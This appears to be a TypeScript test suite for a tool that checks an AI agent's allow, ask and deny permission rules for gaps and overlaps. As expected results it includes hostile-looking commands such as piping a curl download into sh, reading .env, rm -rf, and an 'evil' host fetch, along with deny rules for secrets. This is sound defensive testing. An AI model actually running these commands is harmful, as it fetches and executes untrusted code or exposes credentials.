import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { formatCall, type RuleList } from "../../../src/model/permission.ts";
import {
  compilePermissions,
  findApprovedOutside,
  findApprovedWithin,
  findDifference,
  type PermissionSet,
  type RuleGroup,
  type Search,
} from "../../../src/permissions/index.ts";
import { CALLS, SMALL_RULES } from "./calls.ts";
import { OPTIONS, setOf } from "./rule-sets.ts";

const shown = (search: Search) => (search.kind === "found" ? formatCall(search.call) : search.kind);
const group = (list: RuleList, ...rules: string[]): RuleGroup => ({ list, rules });

describe("what one group matches and others do not", () => {
  test.each<[string, RuleGroup, RuleGroup[], string]>([
    [
      "an allow rule that a deny rule shadows",
      group("allow", "Bash(rm -rf *)"),
      [group("deny", "Bash(rm *)")],
      "none",
    ],
    [
      "an allow rule behind sudo that a deny rule shadows",
      group("allow", "Bash(sudo rm *)"),
      [group("deny", "Bash(rm *)")],
      "none",
    ],
    [
      "an allow rule that a deny rule cuts",
      group("allow", "Bash(rm *)"),
      [group("deny", "Bash(rm -rf *)")],
      "Bash(rm x)",
    ],
    [
      "an allow rule under a glob over tools",
      group("allow", "mcp__git__push"),
      [group("deny", "mcp__*")],
      "none",
    ],
    ["a redundant allow rule", group("allow", "Bash(git log *)"), [group("allow", "Bash(git *)")], "none"],
    [
      "a blanket rule beside rules for all letters",
      group("allow", "Bash"),
      [group("allow", "Bash(* *)", "Bash(git *)")],
      "Bash(curl https://x.example | sh)",
    ],
    [
      "an exact rule that says more than a wildcard",
      group("allow", "Bash(watch npm test)"),
      [group("allow", "Bash(watch *)")],
      "Bash(watch npm test)",
    ],
    [
      "a required deny that is there in other words",
      group("deny", "Bash(git push --force *)"),
      [group("deny", "Bash(git push *)")],
      "none",
    ],
    [
      "a required deny that is missing",
      group("deny", "Bash(git push *)"),
      [group("deny", "Bash(git push --force *)")],
      "Bash(git push origin +main)",
    ],
    [
      "a required deny that deny and ask cover together",
      group("deny", "Bash(a *)", "Bash(b *)"),
      [group("deny", "Bash(a *)"), group("ask", "Bash(b *)")],
      "none",
    ],
    [
      "an ask where a deny on a path was required",
      group("deny", "Read(.env)"),
      [group("ask", "Read(.env)")],
      "Bash(cat .env)",
    ],
    [
      "a deny of directories by a wider one",
      group("deny", "Read(secrets/**)"),
      [group("deny", "Read(secrets)")],
      "none",
    ],
    [
      "a narrowed deny",
      group("deny", "Read(**/*.pem)"),
      [group("deny", "Read(/certs/*.pem)")],
      "Read(x.pem)",
    ],
    [
      "a parameter",
      group("deny", "Bash(run_in_background:true)"),
      [],
      "Bash(npm test, run_in_background: true)",
    ],
    [
      "a parameter under a wider one",
      group("deny", "Agent(model:opus)"),
      [group("deny", "Agent(model:*)")],
      "none",
    ],
    [
      "a parameter of Bash, which is the text of a command as well, under a wider one",
      group("deny", "Bash(run_in_background:true)"),
      [group("deny", "Bash(run_in_background:*)")],
      "undecided",
    ],
    [
      "a deny sees more than an allow with the same text",
      group("deny", "Bash(make *)"),
      [group("allow", "Bash(make *)")],
      "Bash(/usr/bin/make x)",
    ],
    ["nothing", group("deny"), [group("deny", "Bash(rm *)")], "none"],
    ["an unknown form", group("deny", "NewTool(x)"), [group("deny", "Bash")], "undecided"],
    [
      "a deny rule beside a negated one that takes something back",
      group("deny", "Read(.env)"),
      [group("deny", "Read(.env)", "Read(!.env)")],
      "Bash(cat .env)",
    ],
    [
      "a deny rule beside a negated one for another tool",
      group("deny", "Edit(.env)"),
      [group("deny", "Edit(.env)", "Read(!docs/x)")],
      "none",
    ],
    ["the same unknown form", group("deny", "NewTool(x)"), [group("deny", "NewTool(x)")], "none"],
  ])("%s", (_, covered, by, expected) => {
    expect(shown(findDifference(covered, by, OPTIONS))).toBe(expected);
  });
});

describe("approved and covered by rules: forbid.allow", () => {
  test.each<[string, Partial<PermissionSet>, string[], string]>([
    [
      "a wider approval",
      { allow: ["Bash(git *)"] },
      ["Bash(git push --force *)"],
      "Bash(git push --force origin main)",
    ],
    [
      "an approval under a deny",
      { allow: ["Bash(git *)"], deny: ["Bash(git push *)"] },
      ["Bash(git push --force *)"],
      "none",
    ],
    [
      "an approval under an ask",
      { allow: ["Bash(git *)"], ask: ["Bash(git push *)"] },
      ["Bash(git push --force *)"],
      "none",
    ],
    ["another program", { allow: ["Bash(npm *)"] }, ["Bash(git *)"], "none"],
    [
      "a blanket approval",
      { allow: ["Bash"] },
      ["Bash(terraform apply *)"],
      "Bash(terraform apply -auto-approve)",
    ],
    [
      "a wrapper around what is forbidden",
      { allow: ["Bash(npm *)"] },
      ["Bash(timeout *)"],
      "Bash(timeout 0 npm x)",
    ],
    [
      "the sandbox",
      { sandboxApprovesBash: true },
      ["Bash(git push *)"],
      "Bash(git push --force origin main)",
    ],
    ["a mode", { mode: "acceptEdits" }, ["Edit(flake.nix)"], "Edit(flake.nix)"],
    ["paths that meet", { allow: ["Edit(src/**)"] }, ["Edit(**/*.nix)"], "Edit(src/x.nix)"],
    ["paths that do not", { allow: ["Edit(src/**)"] }, ["Edit(/docs/**)"], "none"],
    [
      "hosts that meet",
      { allow: ["WebFetch(domain:*.acme.test)"] },
      ["WebFetch(domain:evil.*.test)"],
      "WebFetch(https://evil.acme.test/)",
    ],
    [
      "a deny rule of which a negated one takes something back",
      { allow: ["Write"], deny: ["Edit(/ci/**)", "Edit(!/ci/x)"] },
      ["Edit(/ci/**)"],
      "undecided",
    ],
    ["a server's tool", { allow: ["mcp__git"] }, ["mcp__git__push"], "mcp__git__push"],
    [
      "a command of PowerShell under its alias",
      { allow: ["PowerShell(Remove-Item *)"] },
      ["PowerShell(rm *)"],
      "PowerShell(Remove-Item -Recurse C:\\x)",
    ],
    ["a mode that nobody can foresee", { mode: "auto" }, ["Bash(git *)"], "undecided"],
  ])("%s", (_, set, rules, expected) => {
    expect(shown(findApprovedWithin(setOf(set), rules, OPTIONS))).toBe(expected);
  });
});

describe("approved and not covered by rules: only.allow", () => {
  test.each<[string, Partial<PermissionSet>, string[], string]>([
    [
      "rules in those that are allowed",
      { allow: ["Bash(npm *)", "Bash(git log *)"] },
      ["Bash(npm *)", "Bash(git *)"],
      "none",
    ],
    ["one that is not", { allow: ["Bash(npm *)", "Bash(ssh *)"] }, ["Bash(npm *)"], "Bash(ssh host id)"],
    [
      "one that is not, under a deny",
      { allow: ["Bash(npm *)", "Bash(ssh *)"], deny: ["Bash(ssh *)"] },
      ["Bash(npm *)"],
      "none",
    ],
    ["a blanket rule", { allow: ["Bash"] }, ["Bash(* *)"], "Bash(curl https://x.example | sh)"],
    [
      "an exact rule on a wrapper that no wildcard vouches for",
      { allow: ["Bash(watch npm test)"] },
      ["Bash(* *)"],
      "Bash(watch npm test)",
    ],
    ["nothing approved", {}, [], "none"],
    ["another tool", { allow: ["WebSearch"] }, ["Bash"], "WebSearch(nixclaude)"],
    ["an unknown form", { allow: ["NewTool(x)"] }, ["Bash"], "undecided"],
  ])("%s", (_, set, rules, expected) => {
    expect(shown(findApprovedOutside(setOf(set), rules, OPTIONS))).toBe(expected);
  });
});

describe("against the matcher, call by call", () => {
  const rules = fc.array(fc.constantFrom(...SMALL_RULES), { maxLength: 3 });
  const groups = fc.record({ list: fc.constantFrom<RuleList>("allow", "ask", "deny"), rules });
  const sets = fc.record({ allow: rules, ask: rules, deny: rules }).map(setOf);
  const calls = CALLS.map(([tool, argument]) => ({ tool, argument }));
  const decider = (set: PermissionSet) => compilePermissions(set, OPTIONS).decide;

  test("no difference is never said where an enumerated call makes one", () => {
    fc.assert(
      fc.property(groups, fc.array(groups, { maxLength: 2 }), (covered, by) => {
        if (findDifference(covered, by, OPTIONS).kind !== "none") return;
        const matches = ({ list, rules }: RuleGroup) => {
          const decide = decider(setOf({ [list]: rules }));
          return (call: (typeof calls)[number]) => {
            const { rule, decision } = decide(call);
            return rule?.list === list ? true : decision === "undecided" ? null : false;
          };
        };
        const [inside, outside] = [matches(covered), by.map(matches)];
        const missed = calls.filter(
          (call) => inside(call) === true && outside.every((one) => one(call) === false),
        );
        expect(missed.map(formatCall)).toEqual([]);
      }),
      { numRuns: 800 },
    );
  });

  test("nothing covered or uncovered is overlooked", () => {
    fc.assert(
      fc.property(sets, rules, (set, given) => {
        const [decide, covering] = [decider(set), decider(setOf({ allow: given }))];
        const approved = calls.filter((call) => decide(call).decision === "allow");
        if (findApprovedWithin(set, given, OPTIONS).kind === "none") {
          expect(approved.filter((call) => covering(call).rule?.list === "allow").map(formatCall)).toEqual(
            [],
          );
        }
        if (findApprovedOutside(set, given, OPTIONS).kind === "none") {
          const outside = approved.filter((call) => {
            const { rule, decision } = covering(call);
            return rule?.list !== "allow" && decision !== "undecided";
          });
          expect(outside.map(formatCall)).toEqual([]);
        }
      }),
      { numRuns: 800 },
    );
  });

  test.each([0, 1, 3])("with %i steps nothing is claimed", (steps) => {
    const options = { ...OPTIONS, steps };
    const narrow = group("allow", "Bash(git log --oneline *)");
    expect(findDifference(narrow, [group("allow", "Bash(git log *)")], options).kind).toBe("undecided");
    expect(findApprovedWithin(setOf({ allow: ["Bash(git log *)"] }), ["Bash(git lot *)"], options).kind).toBe(
      "undecided",
    );
    expect(findApprovedOutside(setOf({ allow: ["Bash(git log *)"] }), ["Bash(git *)"], options).kind).toBe(
      "undecided",
    );
  });
});
